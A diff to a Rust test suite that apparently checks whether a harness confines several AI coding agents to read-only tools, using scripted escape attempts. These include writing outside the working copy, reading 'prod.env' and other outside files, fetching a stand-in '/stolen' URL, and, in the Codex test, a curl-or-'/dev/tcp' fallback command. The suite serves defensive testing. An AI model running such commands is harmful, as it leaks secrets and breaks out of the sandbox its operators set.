@@ -7,26 +7,40 @@ use std::path::Path;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
+/// What a tool can read besides the copy it is given.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Elsewhere {
+    Reads,
+    Blind,
+}
+
 /// Plays a round in which the model tries all this before it answers. Nothing comes of it, and it is
 /// offered exactly these tools.
 #[track_caller]
-fn tries(tool: &'static str, model: &str, attempts: &[Value], offered: &[&str]) {
+fn tries(
+    tool: &'static str,
+    model: &str,
+    attempts: &[Value],
+    offered: &[&str],
+    elsewhere: Elsewhere,
+) {
     let Some(real) = Real::new(tool) else { return };
     let outside = real.lab.outside("written");
     let with = |attempt: &Value| -> Value {
         let text = attempt.to_string().replace("$OUT", outside.to_str().unwrap());
+        let text = text.replace("$ELSE", real.lab.outside("elsewhere.txt").to_str().unwrap());
         serde_json::from_str(&text.replace("$URL", &format!("{}/stolen", real.base()))).unwrap()
     };
     let mut steps: Vec<Value> = attempts.iter().map(with).collect();
     steps.push(json!({"text": speech("Use one file.", "P1", &[])}));
     let scenario = format!("seq:{}", quoted(&Value::from(steps).to_string()));
     let (over, written) = (AtomicBool::new(false), AtomicBool::new(false));
-    let seats = real.lab.outside("tmp");
+    let (seats, copies) = (real.lab.outside("tmp"), real.lab.home().join("snapshots"));
     let done = std::thread::scope(|scope| {
         // The seat's folder is gone when its turn is, so it is watched meanwhile.
         scope.spawn(|| {
             while !over.load(Ordering::Relaxed) {
-                if holds(&seats, "written") {
+                if holds(&seats, "written") || holds(&copies, "written") {
                     written.store(true, Ordering::Relaxed);
                 }
                 std::thread::sleep(Duration::from_millis(30));
@@ -47,8 +61,15 @@ fn tries(tool: &'static str, model: &str, attempts: &[Value], offered: &[&str]) 
     assert_eq!(real.marks(), Vec::<String>::new(), "what lay in wait was started");
     let fetched = |request: &Value| request["path"].as_str().unwrap().starts_with("/stolen");
     assert!(!requests.iter().any(fetched), "it has been on the web");
-    let read = requests.iter().map(Value::to_string).collect::<String>();
-    assert!(!read.contains("MARK-OF-tmp") && !read.contains("MARK-OF-a-skill"), "it was told more");
+    let told = requests.iter().map(Value::to_string).collect::<String>();
+    for word in ["MARK-OF-tmp", "MARK-OF-repo", "MARK-OF-a-skill", "SECRET-IN-THE-TREE"] {
+        assert!(!told.contains(word), "it was told {word}");
+    }
+    assert!(told.contains("READ-IN-THE-COPY"), "it cannot read what is debated");
+    assert_eq!(told.contains("READ-ELSEWHERE"), elsewhere == Elsewhere::Reads);
+    let caveats = turn["envelope"]["caveats"].to_string();
+    assert!(caveats.contains("CLAUDE.md") && done.err.contains("prod.env"), "{done:#?}");
+    assert_eq!(caveats.contains("read the whole disk"), elsewhere == Elsewhere::Reads, "{caveats}");
     assert_eq!(real.offered().iter().map(String::as_str).collect::<Vec<_>>(), offered);
 }
 
@@ -76,9 +97,12 @@ fn claude_reads_and_does_nothing_else() {
             call("Bash", json!({"command": "touch written $OUT"})),
             call("mcp__waiting__start_debate", json!({"topic": "Again?"})),
             call("WebFetch", json!({"url": "$URL", "prompt": "read it"})),
-            call("Read", json!({"file_path": "/etc/hostname"})),
+            call("Read", json!({"file_path": "$CWD/src/here.rs"})),
+            call("Read", json!({"file_path": "$CWD/prod.env"})),
+            call("Read", json!({"file_path": "$ELSE"})),
         ],
         &["DeferredToolPlaceholder", "Glob", "Grep", "Read"],
+        Elsewhere::Blind,
     );
 }
 
@@ -98,12 +122,14 @@ fn codex_reads_and_does_nothing_else() {
             ),
             json!({"tool": "apply_patch", "args": {"input": patch}}),
             call("mcp__waiting__start_debate", json!({"topic": "Again?"})),
+            call("exec_command", json!({"cmd": "cat src/here.rs prod.env $ELSE"})),
             call(
                 "exec_command",
                 json!({"cmd": "curl -s -m 2 $URL || bash -c 'exec 3<>/dev/tcp/$(echo $URL | cut -d/ -f3 | tr : /); printf \"GET /stolen HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3'"}),
             ),
         ],
         &["apply_patch", "exec_command", "request_user_input", "view_image", "write_stdin"],
+        Elsewhere::Reads,
     );
 }
 
@@ -122,8 +148,12 @@ fn gemini_reads_and_does_nothing_else() {
             call("run_shell_command", json!({"command": "touch written $OUT"})),
             call("mcp_waiting_start_debate", json!({"topic": "Again?"})),
             call("web_fetch", json!({"prompt": "read $URL"})),
+            call("read_file", json!({"file_path": "$CWD/src/here.rs"})),
+            call("read_file", json!({"file_path": "$CWD/prod.env"})),
+            call("read_file", json!({"file_path": "$ELSE"})),
         ],
         &["glob", "grep_search", "list_directory", "read_file"],
+        Elsewhere::Blind,
     );
 }
 
@@ -138,8 +168,12 @@ fn opencode_reads_and_does_nothing_else() {
             call("bash", json!({"command": "touch written $OUT", "description": "write"})),
             call("first_start_debate", json!({"topic": "Again?"})),
             call("webfetch", json!({"url": "$URL", "format": "text"})),
+            call("read", json!({"filePath": "$CWD/src/here.rs"})),
+            call("read", json!({"filePath": "$CWD/prod.env"})),
+            call("read", json!({"filePath": "$ELSE"})),
         ],
         &["glob", "grep", "read"],
+        Elsewhere::Blind,
     );
 }
 
@@ -158,7 +192,11 @@ fn copilot_reads_and_does_nothing_else() {
             call("bash", json!({"command": "touch written $OUT", "description": "write"})),
             call("waiting-start_debate", json!({"topic": "Again?"})),
             call("web_fetch", json!({"url": "$URL"})),
+            call("view", json!({"path": "$CWD/src/here.rs"})),
+            call("view", json!({"path": "$CWD/prod.env"})),
+            call("view", json!({"path": "$ELSE"})),
         ],
         &["glob", "grep", "view"],
+        Elsewhere::Blind,
     );
 }
